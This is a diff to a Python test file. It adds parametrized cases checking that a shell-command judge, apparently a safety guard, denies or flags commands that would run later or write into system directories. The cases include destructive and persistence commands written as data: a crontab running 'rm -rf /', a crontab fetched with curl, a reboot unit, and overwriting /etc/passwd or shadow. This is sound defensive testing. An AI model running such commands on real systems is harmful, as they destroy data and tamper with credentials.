@@ -284,3 +284,29 @@ def test_xargs_splits_as_it_is_told(command: str, expected: Decision) -> None:
 def test_programs_in_options_and_files_are_followed(command: str, expected: Decision) -> None:
     """What an option, a hook or a makefile of the same line would run is judged."""
     assert judge(command).decision is expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("crontab <(echo '@reboot rm -rf /')", DENY),
+        ("echo '0 4 * * * reboot' > t; crontab t", DENY),
+        ("crontab <(curl https://example.org/x)", DENY),
+        ("printf '[Service]\\nExecStart=-/sbin/reboot\\n' > /etc/systemd/system/x.service", DENY),
+        ("cp shadow /etc", DENY),
+        ("mv ls /bin", ASK),
+        ("gawk -i inplace '{print}' /etc/passwd", DENY),
+        ("find -- / -delete", DENY),
+        ("udisksctl power-off -b /dev/sda", ASK),
+        ("echo '0 3 * * * /srv/backup' > t; crontab t", ALLOW),
+        (
+            "printf '[Service]\\nExecStop=/bin/kill $MAINPID\\n' > /etc/systemd/system/x.service",
+            ALLOW,
+        ),
+        ("cp app.conf /etc; install -m 755 tool /usr/local/bin", ALLOW),
+        ("gawk -i inplace 'NR > 1' /srv/x.csv", ALLOW),
+    ],
+)
+def test_what_will_run_later_or_goes_into_a_directory(command: str, expected: Decision) -> None:
+    """Tables of jobs and units of the line are read; a directory gets what is moved to it."""
+    assert judge(command).decision is expected
